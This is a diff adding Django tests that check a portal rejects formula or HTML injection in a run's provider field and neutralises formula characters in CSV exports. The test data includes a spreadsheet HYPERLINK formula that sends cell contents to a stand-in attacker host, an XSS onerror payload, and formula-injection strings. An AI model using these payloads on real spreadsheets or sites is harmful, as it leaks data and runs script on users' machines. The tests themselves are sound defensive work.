@@ -133,3 +133,26 @@ def test_a_damaged_archive_is_a_bad_archive_not_a_server_error(
     r = api.post(f"/api/v1/runs/{run['id']}/samples/", {"archive": io.BytesIO(damaged(how))}, format="multipart")
     assert r.status_code == 400 and r.json()["error"]["code"] == "bad_archive", r.content
     assert not Submission.objects.exists()
+
+
+def test_a_run_provider_with_a_formula_or_markup_is_refused_as_an_uploads_is(
+        owner_api: Any, cpu_hardware: Any) -> None:
+    # A run's provider was stored unchecked and became its model's provider, which the problem
+    # leaderboard's `credit` column shows and exports: `=HYPERLINK(...)` ran in a spreadsheet.
+    for provider in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "<img src=x onerror=alert(1)>"):
+        r = owner_api.post("/api/v1/runs/", {"model": "new-model", "hardware": cpu_hardware.slug, "k": 1,
+                                             "provider": provider}, format="json")
+        assert r.status_code == 400 and r.json()["error"]["code"] == "bad_provider", r.content
+    r = owner_api.post("/api/v1/runs/", {"model": "new-model", "hardware": cpu_hardware.slug, "k": 1,
+                                         "provider": "OpenAI (via API)"}, format="json")
+    assert r.status_code == 201 and r.json()["provider"] == "OpenAI (via API)"
+
+
+def test_a_csv_export_never_starts_a_cell_with_a_formula_character() -> None:
+    from portal.lib.tables import Column, Table
+
+    # A username may start with + - @ (Django allows them) and is the `credit` of a person's row.
+    rows = [{"credit": "-1+cmd", "speedup": -0.5}, {"credit": "@SUM(A1)", "speedup": 1.0},
+            {"credit": "=1+1", "speedup": None}, {"credit": "plain", "speedup": 2.0}]
+    csv = Table("problem", "t", [Column("credit", "By"), Column("speedup", "Speedup", "float")], rows).as_csv()
+    assert csv.splitlines() == ["credit,speedup", "'-1+cmd,-0.5", "'@SUM(A1),1.0", "'=1+1,", "plain,2.0"]
